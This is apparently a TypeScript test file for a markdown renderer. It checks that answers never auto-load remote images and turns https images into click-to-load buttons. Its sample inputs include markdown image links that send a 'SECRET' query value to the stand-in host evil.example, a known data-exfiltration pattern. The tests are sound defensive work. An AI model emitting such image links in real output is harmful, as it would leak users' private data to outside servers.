import assert from "node:assert/strict";
import { JSDOM } from "jsdom";
import { apply, html, keyed, stream } from "../../../src/markdown";
import type { Block } from "../../../src/protocol/blocks";
import { remoteImages } from "../../fixtures/xss";

const page = new JSDOM("<body></body>").window.document;

/** Attributes through which a browser fetches a URL by itself when the element is shown. */
const FETCHING = ["src", "srcset", "poster", "background", "data", "href", "xlink:href"];
/** A URL that leaves the page: any scheme but data, or protocol-relative. */
const REMOTE = /(^|[\s,(])(?:[a-z][a-z0-9+.-]*:(?!image\/)|\/\/)/i;

/** What in MARKUP would make the panel call a server by itself, or undefined when nothing would. */
function fetches(markup: string): string | undefined {
  const host = page.createElement("div");
  host.innerHTML = markup;
  for (const e of host.querySelectorAll("*")) {
    for (const a of e.attributes) {
      // A link is followed only when clicked, and only by the host.
      if (e.localName === "a" && a.name === "href") continue;
      if (a.name === "style" && /url\(/i.test(a.value)) return `a CSS url() on <${e.localName}>`;
      if (FETCHING.includes(a.name) && REMOTE.test(a.value.replace(/^data:/i, "")))
        return `${a.name}="${a.value}" on <${e.localName}>`;
    }
  }
  return undefined;
}

describe("remote images in answers", () => {
  it("render no remote src, srcset or url() for any spelling, whole or streamed in 4-character deltas", () => {
    for (const payload of remoteImages) {
      assert.equal(fetches(html(payload)), undefined, payload);
      const renderer = stream("k");
      let replica: Block[] = [];
      for (let i = 0; i < payload.length; i += 4) {
        replica = apply(replica, renderer.append(payload.slice(i, i + 4)));
        assert.equal(fetches(replica.map((b) => b.html).join("")), undefined, `${payload} at ${i}`);
      }
      replica = apply(replica, renderer.end());
      assert.deepEqual(replica, keyed(payload, "k"));
    }
  });

  it("shows an https image as a button that names its host and keeps its alt text, the URL in data-image", () => {
    const host = page.createElement("div");
    host.innerHTML = html("See ![build status](https://evil.example/pixel.png?d=SECRET) here.");
    const placeholder = host.querySelector("button");
    assert.ok(placeholder);
    assert.equal(placeholder.getAttribute("type"), "button");
    assert.equal(placeholder.className, "remote-image");
    assert.equal(placeholder.getAttribute("data-image"), "https://evil.example/pixel.png?d=SECRET");
    assert.equal(placeholder.textContent, "Image build status from evil.example — click to load");
    assert.equal(host.querySelector("img"), null);
    assert.equal(host.textContent?.trim(), "See Image build status from evil.example — click to load here.");
  });

  it("gives every https spelling a placeholder with its URL; what is not an https URL stays text", () => {
    const urlOf = (markdown: string) => {
      const host = page.createElement("div");
      host.innerHTML = html(markdown);
      return host.querySelector("button.remote-image")?.getAttribute("data-image");
    };
    assert.equal(urlOf("![s](HTTPS://EVIL.EXAMPLE/P.PNG)"), "https://evil.example/P.PNG");
    assert.equal(urlOf("![s][r]\n\n[r]: https://evil.example/r.png"), "https://evil.example/r.png");
    // Entities stay as written in a destination (marked leaves them): the URL is escaped once, shown whole.
    assert.equal(urlOf("![s](https://evil.example/p?d=&#83;&amp;x)"), "https://evil.example/p?d=&#83;&amp;x");
    assert.equal(urlOf("![s](&#104;ttps://evil.example/e.png)"), undefined);
    assert.equal(urlOf("![s](//evil.example/e.png)"), undefined);
    // A host name in another script is shown as its ASCII form, so a look-alike cannot pass for another.
    const host = page.createElement("div");
    host.innerHTML = html("![s](https://exаmple.com/a.png)");
    assert.equal(host.querySelector(".image-host")?.textContent, "xn--exmple-4nf.com");
  });

  it("keeps inline raster data URLs as images: they call no server", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const host = page.createElement("div");
    host.innerHTML = html(`![dot](${png})`);
    assert.equal(host.querySelector("img")?.getAttribute("src"), png);
    assert.equal(host.querySelector("button"), null);
  });
});
